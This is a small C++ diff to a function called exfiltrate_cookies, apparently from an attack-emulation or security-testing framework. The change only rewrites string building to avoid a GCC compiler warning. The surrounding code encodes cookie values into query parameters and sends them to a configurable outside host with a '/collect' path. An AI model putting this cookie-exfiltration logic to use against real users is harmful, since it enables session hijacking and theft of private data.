@@ -50,7 +50,12 @@ void exfiltrate_cookies(const ScriptOp& op, const ExecContext& ctx,
     std::size_t index = 0;
     for (const auto& segment : segments) {
       std::string key = cookie.name;
-      if (index > 0) key += "_" + std::to_string(index);
+      if (index > 0) {
+        // Append piecewise: `+= "_" + to_string(...)` trips the GCC 12
+        // -Wrestrict false positive (PR 105329) under warnings-as-errors.
+        key += '_';
+        key += std::to_string(index);
+      }
       params.push_back({std::move(key), encode_identifier(segment, op.encoding)});
       ++index;
     }
@@ -62,7 +67,9 @@ void exfiltrate_cookies(const ScriptOp& op, const ExecContext& ctx,
                                        resolve_host(op.dest_host, services) +
                                        (op.dest_path.empty() ? "/collect"
                                                              : op.dest_path));
-  dest = dest.resolve("?" + net::build_query(params));
+  std::string query = "?";
+  query += net::build_query(params);
+  dest = dest.resolve(query);
   services.send_request(ctx, dest);
 }
 
